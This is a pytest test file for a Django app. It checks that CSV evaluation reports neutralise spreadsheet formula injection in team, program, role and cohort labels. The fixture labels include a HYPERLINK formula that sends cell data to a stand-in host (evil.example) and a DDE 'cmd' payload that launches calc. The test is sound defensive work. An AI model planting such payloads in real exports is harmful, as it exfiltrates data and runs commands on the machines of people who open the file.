"""The evaluation report's CSV is safe to open in a spreadsheet: a team, program, role or
cohort label that would start a formula comes out with one quote in front, from the lead's
download and from the `evaluation_report` command alike, while numbers (negative ones too)
stay numbers."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from steadfast.cohorts.models import Cohort
from steadfast.core.csvsafe import DANGEROUS_STARTS
from steadfast.insights.synthetic import synthetic_organisation_seed
from steadfast.organisations.models import Team
from steadfast.programs.models import Program, Variant


def labelled(org, start):
    """Seed the organisation and give one team, the program, one role and one cohort a label
    beginning with `start`; returns the labels by report section."""
    synthetic_organisation_seed(slug=org.slug, participants=40, effect=-2.0, seed=5)
    labels = {
        "team": f'{start}HYPERLINK("http://evil.example/?d="&A1,"Click")',
        "program": f"{start}cmd|' /C calc'!A0",
        "role": f"{start}2+3+dispatch",
        "cohort": f"{start}SUM(1+1)*cmd",
    }
    Team.objects.filter(organisation=org, name="Team 001").update(name=labels["team"])
    Program.objects.filter(slug="synthetic-evaluation").update(title=labels["program"])
    Variant.objects.filter(version__program__slug="synthetic-evaluation", role="dispatcher").update(
        role=labels["role"]
    )
    Cohort.objects.filter(organisation=org, title="Cohort 001").update(title=labels["cohort"])
    return labels


def assert_safe(text, labels):
    rows = list(csv.reader(io.StringIO(text)))
    groups = {(row[0], row[1]) for row in rows[1:]}
    for section, label in labels.items():
        assert (section, "'" + label) in groups, f"{section} label missing or not neutralised"
        assert (section, label) not in groups
    for row in rows:
        for cell in row:
            if cell.startswith(DANGEROUS_STARTS):
                float(cell)  # only a number may start with one of them: "-2.76"
    header, *body = rows
    column = header.index("mean_change")
    changes = [float(row[column]) for row in body if row[column]]
    assert min(changes) < 0  # negative figures are written as plain numbers


@pytest.mark.parametrize("start", DANGEROUS_STARTS, ids=repr)
def test_the_leads_csv_download_neutralises_labels(client, org, lead, start):
    labels = labelled(org, start)
    client.force_login(lead)
    response = client.get(
        reverse("insights_org:report_download", kwargs={"slug": org.slug, "fmt": "csv"})
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert_safe(response.content.decode(), labels)


@pytest.mark.parametrize("start", DANGEROUS_STARTS, ids=repr)
def test_the_evaluation_report_command_neutralises_labels(org, tmp_path, start):
    labels = labelled(org, start)
    out = tmp_path / "report.csv"
    call_command("evaluation_report", "--org", org.slug, "--format", "csv", "--output", str(out))
    assert_safe(out.read_text(newline=""), labels)
